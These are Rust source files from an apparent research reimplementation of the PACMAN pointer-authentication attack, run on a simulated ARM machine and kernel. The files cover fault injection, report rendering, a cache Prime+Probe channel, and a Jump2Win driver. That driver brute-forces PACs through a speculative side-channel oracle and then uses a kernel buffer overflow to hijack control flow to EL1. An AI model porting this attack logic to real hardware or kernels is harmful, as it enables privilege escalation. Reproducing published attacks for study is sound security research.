        // 320M cycles at 3.2 GHz = 100 ms → 1 ms/guess → 65.536 s full space.
        assert!((o.ms_per_guess(3_200_000_000) - 1.0).abs() < 1e-9);
        assert!((o.minutes_for_full_space(3_200_000_000) - 65.536 / 60.0).abs() < 1e-6);
    }
}
