//! Deterministic fault injection for the execution stack.
//!
//! Long measurement campaigns on real hardware die in ways unit tests
//! never exercise: a trial panics, a timing measurement lands in a noise
//! spike, an artifact write hits a full disk. This module makes those
//! degradation paths *testable*: a seeded [`FaultPlan`] decides — as a
//! pure function of `(seed, site, index, attempt)` — where to inject a
//! shard panic, a timing-noise spike or an artifact-write IO error, so
//! CI can run the whole retry/partial-failure machinery on every push
//! with bit-reproducible fault patterns.
//!
//! Faults are **off by default** ([`FaultPlan::disabled`], the zero
//! rate). They activate via the `PACMAN_FAULT_SEED` / `PACMAN_FAULT_RATE`
//! environment variables ([`FaultPlan::from_env`]) or the CLI's
//! `--fault-rate` option. Because the decision stream is keyed by the
//! attempt number, a retried attempt under the default
//! [`RetryPolicy`]`{ reseed: true }` rolls fresh decisions — transient
//! faults clear, and since the *experiment* seed is attempt-invariant
//! the retried aggregate is bit-identical to a fault-free run. With
//! `reseed: false` the same decisions replay every attempt, which is
//! the deterministic way to drive a shard out of its retry budget.

use std::sync::atomic::{AtomicU64, Ordering};

pub use pacman_runner::{mix64, RetryPolicy};

/// Environment variable holding the fault-plan seed (u64, decimal).
pub const FAULT_SEED_ENV: &str = "PACMAN_FAULT_SEED";

/// Environment variable holding the fault rate (float in `[0, 1]`).
pub const FAULT_RATE_ENV: &str = "PACMAN_FAULT_RATE";

/// Rate used when only `PACMAN_FAULT_SEED` is set.
pub const DEFAULT_FAULT_RATE: f64 = 0.2;

/// Seed used when only a rate is given (`--fault-rate` without
/// `PACMAN_FAULT_SEED`): a fixed constant, so a bare `--fault-rate` run
/// is still reproducible.
pub const DEFAULT_FAULT_SEED: u64 = 0xFA17_5EED;

/// Extra cycles per timed access on a shard running under an injected
/// timing-noise spike — far above every latency plateau in the Figure 5
/// calibration, so a spiked attempt's measurements are unmistakably
/// corrupted (and the attempt is discarded and retried).
pub const SPIKE_CYCLES: u64 = 50_000;

/// Where a fault can be injected. Each site salts the decision stream
/// differently, so e.g. a shard-panic decision for shard 3 is
/// independent of the timing-spike decision for shard 3.
#[derive(Copy, Clone, Eq, PartialEq, Debug)]
pub enum FaultSite {
    /// Panic at the top of a shard attempt (exercises `catch_unwind`
    /// isolation and the retry loop).
    ShardPanic,
    /// Arm [`SPIKE_CYCLES`] of extra latency on the shard machine's
    /// timed loads (exercises the discard-and-retry path for corrupted
    /// measurements).
    TimingSpike,
    /// Fail a `BENCH_<id>.json` artifact write (exercises the bench
    /// harness's bounded write retry).
    ArtifactWrite,
}

impl FaultSite {
    fn tag(self) -> u64 {
        match self {
            FaultSite::ShardPanic => 0x5041_4e49_435f_5348,
            FaultSite::TimingSpike => 0x5350_494b_455f_5449,
            FaultSite::ArtifactWrite => 0x4152_5446_5f57_5254,
        }
    }
}

/// A seeded, deterministic fault-injection plan.
///
/// `fires(site, index, attempt)` is a pure function of the plan's seed
/// and its arguments; the only mutable state is the count of injected
/// faults (atomic, so one plan can be shared across worker threads and
/// its count merged into telemetry afterwards).
#[derive(Debug)]
pub struct FaultPlan {
    seed: u64,
    rate: f64,
    injected: AtomicU64,
}

impl Default for FaultPlan {
    fn default() -> Self {
        Self::disabled()
    }
}

impl Clone for FaultPlan {
    fn clone(&self) -> Self {
        Self {
            seed: self.seed,
            rate: self.rate,
            injected: AtomicU64::new(self.injected.load(Ordering::Relaxed)),
        }
    }
}

impl FaultPlan {
    /// The inert plan: rate 0, never fires. This is the default
    /// everywhere — fault injection is strictly opt-in.
    #[must_use]
    pub fn disabled() -> Self {
        Self { seed: DEFAULT_FAULT_SEED, rate: 0.0, injected: AtomicU64::new(0) }
    }

    /// A plan firing at `rate` (clamped to `[0, 1]`) under `seed`.
    #[must_use]
    pub fn new(seed: u64, rate: f64) -> Self {
        let rate = if rate.is_finite() { rate.clamp(0.0, 1.0) } else { 0.0 };
        Self { seed, rate, injected: AtomicU64::new(0) }
    }

    /// Builds the plan from the process environment:
    /// `PACMAN_FAULT_SEED` (decimal u64) activates injection at
    /// `PACMAN_FAULT_RATE` (default [`DEFAULT_FAULT_RATE`]); a rate
    /// alone activates under [`DEFAULT_FAULT_SEED`]. Neither set — or
    /// unparsable values — yields the disabled plan.
    #[must_use]
    pub fn from_env() -> Self {
        Self::from_lookup(|k| std::env::var(k).ok())
    }

    /// [`FaultPlan::from_env`] with an injected lookup, so tests can
    /// exercise the parsing without mutating process-global environment
    /// state.
    #[must_use]
    pub fn from_lookup(lookup: impl Fn(&str) -> Option<String>) -> Self {
        let seed = lookup(FAULT_SEED_ENV).and_then(|s| s.trim().parse::<u64>().ok());
        let rate = lookup(FAULT_RATE_ENV).and_then(|s| s.trim().parse::<f64>().ok());
        match (seed, rate) {
            (None, None) => Self::disabled(),
            (seed, rate) => {
                Self::new(seed.unwrap_or(DEFAULT_FAULT_SEED), rate.unwrap_or(DEFAULT_FAULT_RATE))
            }
        }
    }

    /// The same plan with its rate replaced (the `--fault-rate` CLI
    /// override; rate 0 disables injection entirely).
    #[must_use]
    pub fn with_rate(&self, rate: f64) -> Self {
        Self::new(self.seed, rate)
    }

    /// Whether this plan can fire at all.
    #[must_use]
    pub fn is_active(&self) -> bool {
        self.rate > 0.0
    }

    /// The plan's firing probability per decision.
    #[must_use]
    pub fn rate(&self) -> f64 {
        self.rate
    }

    /// The plan's seed.
    #[must_use]
    pub fn seed(&self) -> u64 {
        self.seed
    }

    /// Whether the fault at `(site, index, attempt)` fires — a pure
    /// function of the seed and arguments. Every firing bumps the
    /// injected-fault counter.
    pub fn fires(&self, site: FaultSite, index: u64, attempt: u32) -> bool {
        if self.rate <= 0.0 {
            return false;
        }
        let h = mix64(mix64(self.seed ^ site.tag(), index), u64::from(attempt));
        // Map the top 53 bits onto [0, 1) — the standard double trick.
        let unit = (h >> 11) as f64 / (1u64 << 53) as f64;
        let fire = unit < self.rate;
        if fire {
            self.injected.fetch_add(1, Ordering::Relaxed);
        }
        fire
    }

    /// Panics iff the shard-panic fault fires for `(shard, attempt)` —
    /// drivers call this at the top of each shard attempt.
    pub fn maybe_panic(&self, shard: usize, attempt: u32) {
        if self.fires(FaultSite::ShardPanic, shard as u64, attempt) {
            panic!("injected fault: shard {shard} panic (attempt {attempt})");
        }
    }

    /// Faults injected so far (across all sites and clones' ancestors'
    /// decisions made on *this* instance).
    #[must_use]
    pub fn injected(&self) -> u64 {
        self.injected.load(Ordering::Relaxed)
    }
}

/// The pair every parallel driver threads through: how often to retry a
/// failing shard, and which faults (if any) to inject.
#[derive(Clone, Debug, Default)]
pub struct Tolerance {
    /// Bounded per-shard retry budget.
    pub retry: RetryPolicy,
    /// Deterministic fault injection (disabled by default).
    pub faults: FaultPlan,
}

impl Tolerance {
    /// Default retries, faults from the environment (see
    /// [`FaultPlan::from_env`]).
    #[must_use]
    pub fn from_env() -> Self {
        Self { retry: RetryPolicy::default(), faults: FaultPlan::from_env() }
    }

    /// The attempt key fed into the fault-decision stream: the real
    /// attempt number when the policy reseeds (transient faults clear on
    /// retry), attempt 0 forever otherwise (faults replay, budgets
    /// exhaust deterministically).
    #[must_use]
    pub fn fault_attempt(&self, attempt: u32) -> u32 {
        if self.retry.reseed {
            attempt
        } else {
            0
        }
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn disabled_plan_never_fires() {
        let plan = FaultPlan::disabled();
        assert!(!plan.is_active());
        for i in 0..1000 {
            assert!(!plan.fires(FaultSite::ShardPanic, i, 0));
        }
        assert_eq!(plan.injected(), 0);
    }

    #[test]
    fn decisions_are_pure_and_site_salted() {
        let a = FaultPlan::new(42, 0.5);
        let b = FaultPlan::new(42, 0.5);
        for i in 0..256 {
            assert_eq!(
                a.fires(FaultSite::ShardPanic, i, 0),
                b.fires(FaultSite::ShardPanic, i, 0),
                "same seed, same decision"
            );
        }
        assert_eq!(a.injected(), b.injected(), "identical plans count identically");
        let c = FaultPlan::new(42, 0.5);
        let per_site_differ = (0..256)
            .any(|i| c.fires(FaultSite::ShardPanic, i, 1) != c.fires(FaultSite::TimingSpike, i, 1));
        assert!(per_site_differ, "sites must have independent streams");
    }

    #[test]
    fn rate_bounds_the_empirical_frequency() {
        let plan = FaultPlan::new(7, 0.2);
        let fired = (0..10_000).filter(|&i| plan.fires(FaultSite::ShardPanic, i, 0)).count();
        // 10k decisions at rate 0.2: a loose window around 2000.
        assert!((1500..2500).contains(&fired), "fired {fired} of 10000");
        assert_eq!(plan.injected() as usize, fired);
        let never = FaultPlan::new(7, 0.0);
        assert!(!(0..1000).any(|i| never.fires(FaultSite::ShardPanic, i, 0)));
        let always = FaultPlan::new(7, 1.0);
        assert!((0..1000).all(|i| always.fires(FaultSite::ShardPanic, i, 0)));
    }

    #[test]
    fn from_lookup_parses_the_environment_shapes() {
        let none = FaultPlan::from_lookup(|_| None);
        assert!(!none.is_active());

        let seed_only =
            FaultPlan::from_lookup(|k| (k == FAULT_SEED_ENV).then(|| "1337".to_string()));
        assert!(seed_only.is_active());
        assert_eq!(seed_only.seed(), 1337);
        assert!((seed_only.rate() - DEFAULT_FAULT_RATE).abs() < 1e-12);

        let rate_only =
            FaultPlan::from_lookup(|k| (k == FAULT_RATE_ENV).then(|| "0.35".to_string()));
        assert!(rate_only.is_active());
        assert_eq!(rate_only.seed(), DEFAULT_FAULT_SEED);
        assert!((rate_only.rate() - 0.35).abs() < 1e-12);

        let garbage =
            FaultPlan::from_lookup(|k| (k == FAULT_SEED_ENV).then(|| "banana".to_string()));
        assert!(!garbage.is_active(), "unparsable seed must stay disabled");

        let clamped = FaultPlan::from_lookup(|k| match k {
            FAULT_SEED_ENV => Some("9".into()),
            FAULT_RATE_ENV => Some("7.5".into()),
            _ => None,
        });
        assert!((clamped.rate() - 1.0).abs() < 1e-12, "rates clamp to [0, 1]");
    }

    #[test]
    fn with_rate_overrides_and_zero_disables() {
        let plan = FaultPlan::new(5, 0.9).with_rate(0.0);
        assert!(!plan.is_active());
        let re = plan.with_rate(0.4);
        assert!(re.is_active());
        assert_eq!(re.seed(), 5, "seed survives the rate override");
    }

    #[test]
    fn maybe_panic_panics_exactly_when_the_site_fires() {
        let plan = FaultPlan::new(3, 0.5);
        for shard in 0..64usize {
            let fires = FaultPlan::new(3, 0.5).fires(FaultSite::ShardPanic, shard as u64, 0);
            let result = std::panic::catch_unwind(std::panic::AssertUnwindSafe(|| {
                plan.maybe_panic(shard, 0);
            }));
            assert_eq!(result.is_err(), fires, "shard {shard}");
        }
    }

    #[test]
    fn fault_attempt_respects_the_reseed_policy() {
        let reseeding = Tolerance::default();
        assert_eq!(reseeding.fault_attempt(0), 0);
        assert_eq!(reseeding.fault_attempt(3), 3);
        let frozen = Tolerance {
            retry: RetryPolicy { max_attempts: 4, reseed: false },
            faults: FaultPlan::disabled(),
        };
        assert_eq!(frozen.fault_attempt(3), 0, "non-reseeding replays attempt 0");
    }
}
