//! Plain-text table and series rendering shared by the bench harness.

use std::fmt;

/// A paper-style table.
#[derive(Clone, Eq, PartialEq, Debug)]
pub struct Table {
    /// Caption printed above the table.
    pub title: String,
    /// Column headers.
    pub headers: Vec<String>,
    /// Row cells (each row should match `headers.len()`).
    pub rows: Vec<Vec<String>>,
}

impl Table {
    /// Creates an empty table.
    pub fn new(title: impl Into<String>, headers: &[&str]) -> Self {
        Self {
            title: title.into(),
            headers: headers.iter().map(|s| s.to_string()).collect(),
            rows: Vec::new(),
        }
    }

    /// Appends a row.
    pub fn row(&mut self, cells: &[String]) -> &mut Self {
        assert_eq!(cells.len(), self.headers.len(), "row width must match headers");
        self.rows.push(cells.to_vec());
        self
    }

    /// Appends a row of borrowed cells (convenience over [`Table::row`]
    /// when the caller mixes literals and formatted strings).
    pub fn row_of(&mut self, cells: &[impl AsRef<str>]) -> &mut Self {
        let owned: Vec<String> = cells.iter().map(|c| c.as_ref().to_string()).collect();
        self.row(&owned)
    }

    fn widths(&self) -> Vec<usize> {
        let mut w: Vec<usize> = self.headers.iter().map(|h| h.len()).collect();
        for row in &self.rows {
            for (i, c) in row.iter().enumerate() {
                w[i] = w[i].max(c.len());
            }
        }
        w
    }
}

impl fmt::Display for Table {
    fn fmt(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
        let w = self.widths();
        writeln!(f, "== {} ==", self.title)?;
        let line = |f: &mut fmt::Formatter<'_>, cells: &[String]| -> fmt::Result {
            write!(f, "|")?;
            for (i, c) in cells.iter().enumerate() {
                write!(f, " {:<width$} |", c, width = w[i])?;
            }
            writeln!(f)
        };
        line(f, &self.headers)?;
        let total: usize = w.iter().map(|x| x + 3).sum::<usize>() + 1;
        writeln!(f, "{}", "-".repeat(total))?;
        for row in &self.rows {
            line(f, row)?;
        }
        Ok(())
    }
}

/// An ASCII rendering of latency-vs-N series (the Figure 5 plots).
#[derive(Clone, Eq, PartialEq, Debug)]
pub struct AsciiChart {
    /// Caption.
    pub title: String,
    /// `(label, points)` per series, where points are `(x, y)`.
    pub series: Vec<(String, Vec<(usize, u64)>)>,
}

impl AsciiChart {
    /// Creates an empty chart.
    pub fn new(title: impl Into<String>) -> Self {
        Self { title: title.into(), series: Vec::new() }
    }

    /// Adds one series.
    pub fn series(&mut self, label: impl Into<String>, points: Vec<(usize, u64)>) -> &mut Self {
        self.series.push((label.into(), points));
        self
    }
}

impl fmt::Display for AsciiChart {
    fn fmt(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
        writeln!(f, "== {} ==", self.title)?;
        for (label, points) in &self.series {
            writeln!(f, "-- {label} --")?;
            let max = points.iter().map(|&(_, y)| y).max().unwrap_or(1).max(1);
            for &(x, y) in points {
                let bar = (y * 50 / max) as usize;
                writeln!(f, "{x:>3} | {y:>5} {}", "#".repeat(bar))?;
            }
        }
        Ok(())
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn table_renders_aligned() {
        let mut t = Table::new("Demo", &["name", "value"]);
        t.row(&["short".into(), "1".into()]);
        t.row(&["a-much-longer-name".into(), "23456".into()]);
        let s = t.to_string();
        assert!(s.contains("== Demo =="));
        assert!(s.contains("| name"));
        assert!(s.contains("| a-much-longer-name |"));
        // Both rows render the same width.
        let lines: Vec<&str> = s.lines().filter(|l| l.starts_with('|')).collect();
        assert_eq!(lines[0].len(), lines[1].len().max(lines[0].len()));
    }

    #[test]
    fn row_of_accepts_borrowed_cells() {
        let mut t = Table::new("Demo", &["name", "value"]);
        t.row_of(&["literal", "7"]);
        let formatted = format!("{:.1}", 2.5);
        t.row_of(&["mixed", formatted.as_str()]);
        assert_eq!(t.rows.len(), 2);
        assert_eq!(t.rows[1][1], "2.5");
    }

    #[test]
    #[should_panic(expected = "row width")]
    fn mismatched_rows_panic() {
        let mut t = Table::new("x", &["a", "b"]);
        t.row(&["only-one".into()]);
    }

    #[test]
    fn chart_renders_all_points() {
        let mut c = AsciiChart::new("Latency");
        c.series("s1", vec![(1, 60), (2, 95)]);
        let s = c.to_string();
        assert!(s.contains("-- s1 --"));
        assert!(s.contains("  1 |    60"));
        assert!(s.contains("  2 |    95"));
    }
}
