//! The Jump2Win control-flow hijack (paper §8.3, Figure 9).
//!
//! End-to-end: the attacker (an unprivileged EL0 process) uses the PAC
//! oracle to brute-force the two PACs Figure 9 requires — the IA-key PAC
//! of the `win()` address and the DA-key PAC of the fake-vtable address
//! — then triggers the kext's buffer overflow once to plant both signed
//! pointers, and finally invokes the C++-style dispatch syscall, which
//! authenticates the planted pointers successfully and calls `win()` at
//! EL1. No kernel crash occurs at any point.

use pacman_isa::ptr::with_pac_field;
use pacman_isa::PacKey;
use pacman_kernel::kext::cpp::{OBJ2_OFFSET, WIN_MAGIC};
use pacman_kernel::kext::JumpPads;
use pacman_kernel::KernelError;

use crate::oracle::{OracleError, OracleVerdict, TRAIN_ITERS};
use crate::probe::PrimeProbe;
use crate::system::System;

/// Report of a finished Jump2Win run.
#[derive(Clone, Eq, PartialEq, Debug)]
pub struct Jump2WinReport {
    /// Recovered IA-key PAC for the `win()` pointer.
    pub pac_win: u16,
    /// Recovered DA-key PAC for the fake vtable pointer.
    pub pac_vtable: u16,
    /// PAC candidates tested across both brute-force phases.
    pub guesses_tested: u64,
    /// Syscalls issued in total.
    pub syscalls: u64,
    /// Simulated cycles consumed.
    pub cycles: u64,
    /// Kernel crashes (zero on success — the whole point).
    pub crashes: u64,
    /// Whether `win()` actually ran at EL1.
    pub hijacked: bool,
}

/// Errors from the end-to-end attack.
#[derive(Debug)]
pub enum Jump2WinError {
    /// The oracle failed (see [`OracleError`]).
    Oracle(OracleError),
    /// A brute-force phase exhausted the PAC space without a hit
    /// (tolerable per §8.2 — the caller may simply retry).
    PacNotFound {
        /// Which key's PAC was being searched.
        key: PacKey,
    },
    /// The final dispatch crashed or failed.
    Dispatch(KernelError),
}

impl std::fmt::Display for Jump2WinError {
    fn fmt(&self, f: &mut std::fmt::Formatter<'_>) -> std::fmt::Result {
        match self {
            Jump2WinError::Oracle(e) => write!(f, "oracle failure: {e}"),
            Jump2WinError::PacNotFound { key } => {
                write!(f, "no PAC found for key {key:?} (retryable false negative)")
            }
            Jump2WinError::Dispatch(e) => write!(f, "final dispatch failed: {e}"),
        }
    }
}

impl std::error::Error for Jump2WinError {}

impl From<OracleError> for Jump2WinError {
    fn from(e: OracleError) -> Self {
        Jump2WinError::Oracle(e)
    }
}

/// The §8.3 attack driver.
///
/// The brute-force phases use the cpp kext's salt-matched Listing-1
/// gadgets (`gadget_ia`, `gadget_da`), because the PACs consumed by the
/// dispatch path are salted with the victim object's address.
#[derive(Clone, Debug)]
pub struct Jump2Win {
    samples: usize,
    train_iters: usize,
    /// Optional search-window hint applied to both phases: `(start, len)`
    /// over the 16-bit PAC space. Defaults to the full space. Tests and
    /// benches narrow this to keep runtimes sane; the semantics are
    /// identical.
    pub window: Option<(u16, u32)>,
    /// Optional per-phase windows `(IA phase, DA phase)`, overriding
    /// [`Jump2Win::window`] when set.
    pub phase_windows: Option<[(u16, u32); 2]>,
}

impl Default for Jump2Win {
    fn default() -> Self {
        Self::new()
    }
}

impl Jump2Win {
    /// Creates the driver with the §8.2 protocol (5 samples per guess).
    pub fn new() -> Self {
        Self { samples: 5, train_iters: TRAIN_ITERS, window: None, phase_windows: None }
    }

    /// Overrides the per-guess sample count.
    pub fn with_samples(mut self, samples: usize) -> Self {
        assert!(samples >= 1);
        self.samples = samples;
        self
    }

    /// Overrides the per-trial training iterations.
    pub fn with_train_iters(mut self, iters: usize) -> Self {
        self.train_iters = iters;
        self
    }

    fn candidates(&self, phase: usize) -> Vec<u16> {
        let window = self.phase_windows.map(|w| w[phase]).or(self.window);
        match window {
            None => (0..=u16::MAX).collect(),
            Some((start, len)) => (0..len).map(|i| start.wrapping_add(i as u16)).collect(),
        }
    }

    /// One oracle trial against a cpp-kext gadget syscall.
    fn gadget_trial(
        &self,
        sys: &mut System,
        sc: u64,
        pp: &PrimeProbe,
        pads: &JumpPads,
        target: u64,
        pac: u16,
    ) -> Result<usize, OracleError> {
        let _ = pads; // data-transmit gadgets need no iTLB eviction
        for _ in 0..self.train_iters {
            sys.kernel.syscall(&mut sys.machine, sc, &[0, 0, 1])?;
        }
        pp.reset(sys)?;
        pp.prime(sys)?;
        let mut payload = [0u8; 24];
        payload[16..].copy_from_slice(&with_pac_field(target, pac).to_le_bytes());
        let buf = sys.write_payload(&payload);
        sys.kernel.syscall(&mut sys.machine, sc, &[buf, 24, 0])?;
        Ok(pp.probe(sys)?)
    }

    /// Brute-forces one PAC through a cpp-kext gadget. `pub(crate)` so
    /// the parallel driver can run the two phases on separate shard
    /// systems.
    pub(crate) fn brute_phase(
        &self,
        sys: &mut System,
        sc: u64,
        target: u64,
        key: PacKey,
        phase: usize,
        guesses: &mut u64,
    ) -> Result<u16, Jump2WinError> {
        let pp = PrimeProbe::for_target(sys, target);
        let pads = JumpPads::install_for_target(&mut sys.kernel, &mut sys.machine, target, 4);
        for pac in self.candidates(phase) {
            *guesses += 1;
            let mut misses = Vec::with_capacity(self.samples);
            for _ in 0..self.samples {
                misses.push(self.gadget_trial(sys, sc, &pp, &pads, target, pac)?);
            }
            if OracleVerdict::from_misses(misses).is_correct() {
                return Ok(pac);
            }
        }
        Err(Jump2WinError::PacNotFound { key })
    }

    /// Phases 3–4 of Figure 9: the buffer overflow planting both signed
    /// pointers, then the dispatch that authenticates them and diverts to
    /// `win()`. Returns whether the hijack landed.
    pub(crate) fn plant_and_dispatch(
        sys: &mut System,
        pac_win: u16,
        pac_vtable: u16,
    ) -> Result<bool, Jump2WinError> {
        let win = sys.cpp.win_fn;
        let fake_vtable = sys.cpp.obj1;
        let mut payload = vec![0u8; (OBJ2_OFFSET + 8) as usize];
        payload[0..8].copy_from_slice(&with_pac_field(win, pac_win).to_le_bytes());
        payload[OBJ2_OFFSET as usize..]
            .copy_from_slice(&with_pac_field(fake_vtable, pac_vtable).to_le_bytes());
        let buf = sys.write_payload(&payload);
        sys.kernel
            .syscall(&mut sys.machine, sys.cpp.overflow, &[buf, payload.len() as u64])
            .map_err(Jump2WinError::Dispatch)?;
        sys.kernel
            .syscall(&mut sys.machine, sys.cpp.dispatch, &[0, 0])
            .map_err(Jump2WinError::Dispatch)?;
        Ok(sys.cpp.flag_value(&sys.machine) == WIN_MAGIC)
    }

    /// Runs the full attack.
    ///
    /// # Errors
    ///
    /// See [`Jump2WinError`]. On success the report's `hijacked` is true
    /// and `crashes` is zero.
    pub fn run(&self, sys: &mut System) -> Result<Jump2WinReport, Jump2WinError> {
        let syscalls0 = sys.machine.stats.syscalls;
        let cycles0 = sys.machine.cycles;
        let crashes0 = sys.kernel.crash_count();
        let mut guesses = 0u64;

        let win = sys.cpp.win_fn;
        let fake_vtable = sys.cpp.obj1; // the buffer doubles as the vtable

        // Phase 1: IA-key PAC of win() (salted with the object address).
        let pac_win = self.brute_phase(sys, sys.cpp.gadget_ia, win, PacKey::Ia, 0, &mut guesses)?;
        // Phase 2: DA-key PAC of the fake vtable pointer.
        let pac_vtable =
            self.brute_phase(sys, sys.cpp.gadget_da, fake_vtable, PacKey::Da, 1, &mut guesses)?;

        let hijacked = Self::plant_and_dispatch(sys, pac_win, pac_vtable)?;
        Ok(Jump2WinReport {
            pac_win,
            pac_vtable,
            guesses_tested: guesses,
            syscalls: sys.machine.stats.syscalls - syscalls0,
            cycles: sys.machine.cycles - cycles0,
            crashes: sys.kernel.crash_count() - crashes0,
            hijacked,
        })
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::system::SystemConfig;
    use pacman_isa::PacKey;

    fn quiet_system() -> System {
        let mut cfg = SystemConfig::default();
        cfg.machine.os_noise = 0.0;
        System::boot(cfg)
    }

    #[test]
    fn jump2win_end_to_end_with_narrowed_windows() {
        let mut sys = quiet_system();
        // Narrow the search windows around the true PACs so the test runs
        // in seconds; the attack logic is byte-identical to a full sweep.
        let true_win = sys.true_pac_with_salt(PacKey::Ia, sys.cpp.win_fn);
        let true_vt = sys.true_pac_with_salt(PacKey::Da, sys.cpp.obj1);
        // Both phases share one window that covers both true PACs'
        // vicinity; use per-phase runs instead.
        let mut j = Jump2Win::new().with_samples(3).with_train_iters(8);
        j.window = Some((true_win.wrapping_sub(3), 8));
        // Phase-2 window must cover true_vt too; run brute phases
        // separately to validate, then the driver end-to-end with a
        // window covering both (works when they are near each other —
        // not guaranteed — so drive phases manually here).
        let mut guesses = 0;
        let (sc_ia, sc_da, win_fn, obj1) =
            (sys.cpp.gadget_ia, sys.cpp.gadget_da, sys.cpp.win_fn, sys.cpp.obj1);
        let found_win =
            j.brute_phase(&mut sys, sc_ia, win_fn, PacKey::Ia, 0, &mut guesses).unwrap();
        assert_eq!(found_win, true_win);
        j.window = Some((true_vt.wrapping_sub(3), 8));
        let found_vt = j.brute_phase(&mut sys, sc_da, obj1, PacKey::Da, 1, &mut guesses).unwrap();
        assert_eq!(found_vt, true_vt);
        assert_eq!(sys.kernel.crash_count(), 0);

        // Now the planting + dispatch steps, reusing the driver's code
        // path by setting a window that hits immediately for both.
        let mut payload = vec![0u8; (OBJ2_OFFSET + 8) as usize];
        payload[0..8].copy_from_slice(&with_pac_field(sys.cpp.win_fn, found_win).to_le_bytes());
        payload[OBJ2_OFFSET as usize..]
            .copy_from_slice(&with_pac_field(sys.cpp.obj1, found_vt).to_le_bytes());
        let buf = sys.write_payload(&payload);
        sys.kernel
            .syscall(&mut sys.machine, sys.cpp.overflow, &[buf, payload.len() as u64])
            .unwrap();
        sys.kernel.syscall(&mut sys.machine, sys.cpp.dispatch, &[0, 0]).unwrap();
        assert_eq!(sys.cpp.flag_value(&sys.machine), WIN_MAGIC);
        assert_eq!(sys.kernel.crash_count(), 0, "the hijack must be crash-free");
    }

    #[test]
    fn wrong_window_reports_a_retryable_false_negative() {
        let mut sys = quiet_system();
        let true_win = sys.true_pac_with_salt(PacKey::Ia, sys.cpp.win_fn);
        let mut j = Jump2Win::new().with_samples(1).with_train_iters(8);
        j.window = Some((true_win.wrapping_add(100), 8));
        let err = j.run(&mut sys).unwrap_err();
        assert!(matches!(err, Jump2WinError::PacNotFound { key: PacKey::Ia }));
        assert_eq!(sys.kernel.crash_count(), 0);
    }
}
