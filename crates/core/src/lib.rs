//! The PACMAN attack library — the ISCA 2022 paper's contribution.
//!
//! PACMAN speculatively leaks ARM Pointer Authentication verification
//! results through TLB side channels, turning the 16-bit PAC from a
//! crash-on-guess defence into a silently brute-forceable value. This
//! crate implements the attacker side, end to end, as an unprivileged
//! EL0 process on the workspace's simulated M1-like platform:
//!
//! - [`system`] — boots the attack platform (machine + kernel + kexts);
//! - [`evict`] — TLB eviction-set construction per the §7 findings;
//! - [`probe`] — Prime+Probe over the shared L1 dTLB;
//! - [`cache_probe`] — the same oracle over the L1 data cache (§4.1's
//!   channel-generality claim);
//! - [`timing`] — timer evaluation and threshold calibration (Figure 7);
//! - [`oracle`] — the data- and instruction-gadget PAC oracles (§8.1,
//!   Figure 8);
//! - [`brute`] — PAC brute forcing with TP/FP/FN accounting (§8.2);
//! - [`sweep`] — the §7 reverse-engineering sweeps (Figure 5) and the
//!   Figure 6 parameter derivation;
//! - [`jump2win`] — the §8.3 control-flow hijack;
//! - [`parallel`] — sharded, deterministic parallel drivers for the
//!   above experiments (the `pacman-runner` execution layer);
//! - [`pool`] — per-worker pools of booted [`System`]s recycled through
//!   [`System::reboot_into`] (allocator-free steady state under the
//!   persistent executor);
//! - [`conformance`] — seeded differential fuzzing of the speculative
//!   core against the `pacman-ref` architectural reference machine,
//!   sharded over the same execution layer;
//! - [`fault`] — deterministic fault injection and the retry/tolerance
//!   policy the parallel drivers run under;
//! - [`report`] — table/series rendering for the bench harness;
//! - [`telemetry`] — per-trial oracle records and the `oracle.*` /
//!   `brute.*` metrics series (JSONL export via `pacman-cli --json`).
//!
//! # Example: a crash-free PAC oracle
//!
//! ```
//! use pacman_core::oracle::{DataPacOracle, PacOracle};
//! use pacman_core::{System, SystemConfig};
//!
//! let mut sys = System::boot(SystemConfig::default());
//! let set = sys.pick_quiet_dtlb_set();
//! let target = sys.alloc_target(set);
//! let true_pac = sys.true_pac(target); // ground truth (evaluation only)
//!
//! let mut oracle = DataPacOracle::new(&mut sys)?;
//! assert!(oracle.test_pac(&mut sys, target, true_pac)?.is_correct());
//! assert!(!oracle.test_pac(&mut sys, target, true_pac ^ 1)?.is_correct());
//! assert_eq!(sys.kernel.crash_count(), 0); // no crashes — the point of PACMAN
//! # Ok::<(), pacman_core::oracle::OracleError>(())
//! ```

#![forbid(unsafe_code)]
#![warn(missing_docs)]

pub mod brute;
pub mod cache_probe;
pub mod conformance;
pub mod evict;
pub mod fault;
pub mod jump2win;
pub mod oracle;
pub mod parallel;
pub mod pool;
pub mod probe;
pub mod report;
pub mod sweep;
pub mod system;
pub mod telemetry;
pub mod timing;

pub use fault::{FaultPlan, Tolerance};
pub use parallel::ExperimentError;
pub use system::{System, SystemConfig};
