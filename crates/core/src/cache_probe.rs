//! A cache-based transmission channel (paper §4.1).
//!
//! "Our attack is general enough to work with a wide range of
//! micro-architectural side channels" — the PoCs use TLBs, but nothing in
//! the gadget depends on that. This module implements the same PAC oracle
//! over the **L1 data cache**: Prime+Probe on the L1D set of the target
//! address instead of its dTLB set.
//!
//! On the modelled machine (as on many L1 designs) the L1D index bits all
//! come from the page offset — 256 sets × 64 B lines exactly covers a
//! 16 KB page — so an attacker can build L1D eviction sets from its own
//! pages purely by matching the target's *page offset*, with no physical
//! address knowledge.

use std::collections::HashMap;

use pacman_isa::ptr::{with_pac_field, PAGE_SIZE};
use pacman_uarch::Trap;

use crate::oracle::{OracleError, OracleVerdict, PacOracle, TRAIN_ITERS};
use crate::system::System;

/// Effective L1D associativity the probe must defeat (Table 2 footnote 5).
pub const L1D_WAYS: usize = 4;
/// L1D set count.
pub const L1D_SETS: u64 = 256;
/// L1D line size.
pub const LINE: u64 = 64;

/// Tick threshold separating an L1D hit (~60 cycles ≈ 24 ticks) from an
/// L1D miss / L2 hit (~80 cycles ≈ 32 ticks) under the multi-thread
/// timer. Finer than the TLB threshold because the gap is smaller.
pub const CACHE_THRESHOLD: u64 = 28;

/// Miss count classifying a trial as "correct PAC" (4-way set, so a
/// cascade yields ~4 misses; an untouched set 0–1).
pub const CACHE_MISS_THRESHOLD: usize = 3;

/// Prime+Probe over one L1D set.
#[derive(Clone, Debug)]
pub struct CachePrimeProbe {
    addrs: Vec<u64>,
    set: u64,
}

impl CachePrimeProbe {
    /// Builds an L1D eviction set for the cache set of `target_va`:
